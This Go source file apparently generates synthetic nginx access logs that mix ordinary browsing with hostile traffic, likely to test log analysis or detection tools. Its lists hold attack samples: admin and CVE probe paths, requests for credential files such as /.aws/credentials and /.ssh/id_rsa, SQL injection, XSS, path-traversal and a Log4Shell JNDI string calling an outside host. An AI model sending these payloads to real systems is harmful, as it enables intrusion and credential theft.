package loggen

import (
	"fmt"
	"io"
	"time"
)

// NginxHostileRatio is the share of lines Nginx aims to give hostile sources.
const NginxHostileRatio = 0.09

// nginxDraw is the per-line chance of a hostile line outside crawler bursts.
const nginxDraw = 0.078

var (
	browserUAs = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
		"Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
	}
	pages   = []string{"/", "/about", "/blog", "/blog/2026/01/release-notes", "/blog/2025/12/year-in-review", "/products", "/products/widget-pro", "/products/widget-lite", "/pricing", "/contact", "/docs", "/docs/getting-started", "/docs/api", "/docs/faq", "/search?q=widget", "/search?q=pricing+plans", "/cart", "/account", "/login", "/news?page=2"}
	statics = []string{"/static/css/main.3f2a1b.css", "/static/js/app.8c1d2e.js", "/static/js/vendor.51af09.js", "/img/logo.png", "/img/hero.jpg", "/favicon.ico", "/fonts/inter.woff2", "/img/products/widget-pro.webp"}
	apis    = []string{"/api/v1/cart", "/api/v1/products?limit=20", "/api/v1/session", "/api/v1/recommendations"}
	refs    = []string{"-", "https://www.google.com/", "https://www.bing.com/", "https://duckduckgo.com/", "https://example.com/", "https://example.com/blog"}

	probePaths = []string{"/admin", "/administrator/", "/phpmyadmin/", "/pma/", "/manager/html", "/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/cgi-bin/test.cgi", "/solr/admin/info/system", "/actuator/health", "/api/jsonws", "/console", "/server-status", "/HNAP1", "/boaform/admin/formLogin", "/owa/auth/logon.aspx", "/remote/login", "/vpn/index.html", "/jenkins/login", "/_ignition/execute-solution", "/setup.cgi", "/cgi/networkDiag.cgi", "/index.php?s=/index/\\think\\app/invokefunction", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/wp-content/plugins/adminimize/adminimize_page.php", "/crx/packmgr/service.jsp", "/Telerik.Web.UI.WebResource.axd?type=rau", "/owncloud/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php", "/.well-known/security.txt"}
	sensitive  = []string{"/.env", "/.git/config", "/.bash_history", "/backup.sql", "/db.sql.gz", "/.env.backup", "/wp-config.php.bak", "/.aws/credentials", "/.ssh/id_rsa", "/config.json.bak", "/.htpasswd", "/dump.sql", "/.DS_Store", "/.svn/entries"}
	badUAs     = []string{"sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 zgrab/0.x", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"}
	injections = []string{"/products?id=1%20union%20select%201,2,3--", "/search?q=%27%20or%201=1--", "/foo?a=information_schema.tables", "/search?q=<script>alert(1)</script>", "/foo?a=prompt(", "/index.php?page=../../../../etc/passwd", "/%2fetc%2fpasswd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "/public/plugins/grafana/../../../../../../../etc/passwd", "/?x=${jndi:ldap://45.155.205.233:12344/Basic/Command}"}
	scanUAs    = []string{"curl/7.68.0", "python-requests/2.31.0", "Go-http-client/1.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/117.0.0.0 Safari/537.36", "-"}
)

// nginx campaign kinds
const (
	ngProbe = iota
	ngSensitive
	ngBadUA
	ngInject
	ngCrawl
)

// Nginx writes n nginx combined-format access log lines: browsing from
// thousands of addresses (pages, assets, API calls, the odd 404) with
// about 9% of lines from a few hundred hostile addresses: probing,
// sensitive files, bad user agents, injections, crawling and CVE probes.
// Timestamps increase (about 25 lines per second) from Start.
func Nginx(w io.Writer, n int, seed int64) error {
	_, err := NginxCount(w, n, seed)
	return err
}

// NginxCount is Nginx and also returns how many lines were hostile.
func NginxCount(w io.Writer, n int, seed int64) (hostile int, err error) {
	g := newGen(w, seed, 0x6e9, 40*time.Millisecond)
	attackers := ipPool(g.r, nginxAttackers)
	benign := ipPool(g.r, 6000)
	camps := make([]*campaign, 10)
	newCamp := func() *campaign {
		c := &campaign{ip: attackers[g.r.IntN(len(attackers))], ua: g.pick(scanUAs)}
		switch k := g.r.IntN(100); {
		case k < 30:
			c.kind, c.left, c.gapMin, c.gapMax, c.payloads = ngProbe, 10+g.r.IntN(50), 50*time.Millisecond, time.Second, probePaths
		case k < 50:
			c.kind, c.left, c.gapMin, c.gapMax, c.payloads = ngSensitive, 4+g.r.IntN(15), 100*time.Millisecond, time.Second, sensitive
		case k < 65:
			c.kind, c.left, c.gapMin, c.gapMax, c.payloads = ngBadUA, 2+g.r.IntN(20), 100*time.Millisecond, 2*time.Second, pages
			c.ua = g.pick(badUAs)
		case k < 95:
			c.kind, c.left, c.gapMin, c.gapMax, c.payloads = ngInject, 2+g.r.IntN(10), 200*time.Millisecond, 3*time.Second, injections
		default:
			c.kind, c.left, c.gapMin, c.gapMax, c.payloads = ngCrawl, 45+g.r.IntN(45), 20*time.Millisecond, 60*time.Millisecond, nil
			c.ua = "Mozilla/5.0 (compatible; SiteScraper/2.1)"
		}
		c.next = g.now
		return c
	}
	for i := range camps {
		camps[i] = newCamp()
	}
	type visit struct {
		ip, ua string
		left   int
	}
	visits := make([]visit, 64)
	newVisit := func() visit {
		return visit{ip: benign[g.r.IntN(len(benign))], ua: g.pick(browserUAs), left: 3 + g.r.IntN(25)}
	}
	for i := range visits {
		visits[i] = newVisit()
	}
	var crawl *campaign // a crawler bursts: its lines come back to back
	for i := 0; i < n; i++ {
		var line string
		var c *campaign
		if crawl != nil {
			g.reschedule(crawl)
			g.now = crawl.next
			c = crawl
		} else {
			g.tick()
			if g.r.Float64() < nginxDraw { // crawler bursts add the rest
				c = g.due(camps)
			}
		}
		ts := g.now.Format("02/Jan/2006:15:04:05 -0700")
		{
			if c != nil {
				if c.kind == ngCrawl {
					crawl = c
				}
				line = g.nginxHostile(c, ts)
				g.hostile++
				c.left--
				if c.left <= 0 {
					crawl = nil
					for j := range camps {
						if camps[j] == c {
							camps[j] = newCamp()
						}
					}
				} else if crawl == nil {
					g.reschedule(c)
				}
			}
		}
		if line == "" {
			vi := g.r.IntN(len(visits))
			v := &visits[vi]
			line = g.nginxBenign(v.ip, v.ua, ts)
			if v.left--; v.left <= 0 {
				visits[vi] = newVisit()
			}
		}
		if _, err := g.w.WriteString(line + "\n"); err != nil {
			return g.hostile, err
		}
	}
	return g.hostile, g.w.Flush()
}

func combined(ip, ts, verb, path string, status, size int, ref, ua string) string {
	return fmt.Sprintf("%s - - [%s] \"%s %s HTTP/1.1\" %d %d \"%s\" \"%s\"", ip, ts, verb, path, status, size, ref, ua)
}

func (g *gen) nginxBenign(ip, ua, ts string) string {
	ref := g.pick(refs)
	switch k := g.r.IntN(100); {
	case k < 40:
		p := g.pick(pages)
		st := 200
		if g.r.IntN(50) == 0 {
			st = 404
			p += "-old"
		} else if g.r.IntN(8) == 0 {
			st = 304
		}
		return combined(ip, ts, "GET", p, st, 800+g.r.IntN(40000), ref, ua)
	case k < 80:
		st := 200
		if g.r.IntN(4) == 0 {
			st = 304
		}
		return combined(ip, ts, "GET", g.pick(statics), st, 1000+g.r.IntN(200000), "https://example.com/", ua)
	case k < 95:
		return combined(ip, ts, "GET", g.pick(apis), 200, 100+g.r.IntN(3000), "https://example.com/", ua)
	default:
		st := 302
		if g.r.IntN(5) == 0 {
			st = 401
		}
		return combined(ip, ts, "POST", "/login", st, 0, "https://example.com/login", ua)
	}
}

func (g *gen) nginxHostile(c *campaign, ts string) string {
	switch c.kind {
	case ngCrawl:
		c.step++
		return combined(c.ip, ts, "GET", fmt.Sprintf("/products/item-%d", c.step*7919%100000), 200, 500+g.r.IntN(30000), "-", c.ua)
	case ngBadUA:
		return combined(c.ip, ts, g.pick([]string{"GET", "HEAD"}), g.pick(c.payloads), 200, g.r.IntN(10000), "-", c.ua)
	default:
		st := 404
		if g.r.IntN(5) == 0 {
			st = 403
		}
		if c.kind == ngInject {
			st = 400
		}
		verb := "GET"
		if g.r.IntN(10) == 0 {
			verb = "POST"
		}
		return combined(c.ip, ts, verb, g.pick(c.payloads), st, 150+g.r.IntN(400), "-", c.ua)
	}
}
